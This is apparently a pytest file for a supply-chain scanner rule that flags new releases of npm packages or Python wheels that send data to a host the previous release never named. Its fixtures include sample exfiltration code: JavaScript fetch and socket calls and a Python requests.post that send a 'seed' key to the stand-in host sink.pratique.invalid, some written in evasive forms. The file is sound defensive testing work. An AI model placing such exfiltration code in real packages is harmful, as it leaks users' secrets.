"""Data that goes to a host which the baseline never names."""

import pytest

from pratique.core.finding import Confidence, Severity
from tests.analysis.inspecting import Files, npm, of_rule, package_json, wheel

RULE = "new-host-reached"
CALM = "exports.keys = seed => seed\n"
SENDS = """exports.keys = seed => {
  fetch('https://sink.pratique.invalid/queue', {method: 'POST', headers: {id: seed}});
  return seed;
};
"""
MANY = "".join(f"exports.a{n} = x => fetch('https://api{n}.pratique{n}.invalid/', x);\n" for n in range(4))


def test_a_key_that_is_sent_to_a_new_host_is_held() -> None:
    (finding,) = of_rule(npm({"index.js": SENDS}, {"index.js": CALM}), RULE)
    assert (Severity.CRITICAL, Confidence.MEDIUM) == (finding.severity, finding.confidence)
    assert (
        "new in this release: fetch contacts sink.pratique.invalid, which the baseline does not contain"
        == finding.message
    )
    assert "index.js:2" == str(finding.locations[0])


@pytest.mark.parametrize(
    "after",
    [
        SENDS.replace("https://sink", "//sink"),
        f"exports.pages = [{','.join(repr(f'https://page{n}.pratique.invalid/') for n in range(300))}]\n{SENDS}",
    ],
    ids=["by the scheme of the page", "behind a crowd of addresses"],
)
def test_another_spelling_or_a_crowd_hides_no_host(after: str) -> None:
    found = of_rule(npm({"index.js": after}, {"index.js": CALM}), RULE)
    assert ["sink.pratique.invalid"] == [finding.evidence for finding in found]


def test_a_command_is_code_that_people_run() -> None:
    def package(code: str) -> Files:
        return {"package.json": package_json(bin={"sample": "cli.js"}), "cli.js": code}

    (finding,) = of_rule(npm(package(SENDS), package(CALM)), RULE)
    assert "cli.js:2" == str(finding.locations[0])


@pytest.mark.parametrize("field", ["unpkg", "jsdelivr"])
def test_what_web_pages_load_is_code_that_people_run(field: str) -> None:
    def package(code: str) -> Files:
        return {
            "package.json": package_json(**{field: "build/web.js"}),
            "index.js": CALM,
            "build/web.js": code,
        }

    (finding,) = of_rule(npm(package(SENDS), package(CALM)), RULE)
    assert "build/web.js:2" == str(finding.locations[0])


def test_python_is_held_too_and_each_host_is_told_once() -> None:
    sends = "import requests\ndef keys(s):\n  requests.post('https://sink.pratique.invalid/', data=s)\n"
    found = of_rule(wheel({"a.py": sends, "b.py": sends}, {"a.py": "def keys(s): ...\n"}), RULE)
    assert ["sink.pratique.invalid"] == [finding.evidence for finding in found]


@pytest.mark.parametrize(
    ("after", "before"),
    [
        ({"index.js": SENDS}, {"index.js": SENDS + "// less\n"}),
        ({"index.js": SENDS}, {"index.js": "exports.at = 'https://sink.pratique.invalid/'\n"}),
        (
            {"index.js": SENDS.replace("'https://sink.pratique.invalid/queue'", "exports.at")},
            {"index.js": CALM},
        ),
        ({"index.js": SENDS.replace("sink.pratique.invalid", "127.0.0.1")}, {"index.js": CALM}),
        (
            {"index.js": SENDS.replace("https://sink.pratique.invalid/queue", "index.html")},
            {"index.js": CALM},
        ),
        ({"index.js": CALM, "scripts/send.js": SENDS}, {"index.js": CALM}),
        ({"index.js": SENDS + MANY}, {"index.js": MANY}),
        ({"index.js": CALM, "again.js": SENDS}, {"old.js": SENDS, "index.js": CALM}),
    ],
    ids=[
        "before",
        "named before",
        "no constant",
        "this machine",
        "no address",
        "asked for by nobody",
        "by trade",
        "moved",
    ],
)
def test_what_is_no_news_or_ordinary_stays_quiet(after: Files, before: Files) -> None:
    assert [] == of_rule(npm(after, before), RULE)


def test_the_projects_own_host_stays_quiet_unless_only_the_new_release_says_that_it_is() -> None:
    manifest = package_json(main="index.js", homepage="https://docs.sample-project.dev/")
    after = {"package.json": manifest, "index.js": SENDS.replace("pratique.invalid", "sample-project.dev")}
    assert [] == of_rule(npm(after, {"package.json": manifest, "index.js": CALM}), RULE)
    assert [] != of_rule(npm(after, {"index.js": CALM}), RULE)


def test_without_a_baseline_it_does_not_apply() -> None:
    assert RULE not in npm({"index.js": SENDS}).inspection.ran


def test_a_host_that_a_socket_is_given_counts() -> None:
    after = "const net = require('net');\nexports.keys = seed => { net.connect(443, 'sink.pratique.invalid').write(seed); return seed; };\n"
    found = of_rule(npm({"index.js": after}, {"index.js": CALM}), RULE)
    assert ["sink.pratique.invalid"] == [finding.evidence for finding in found]
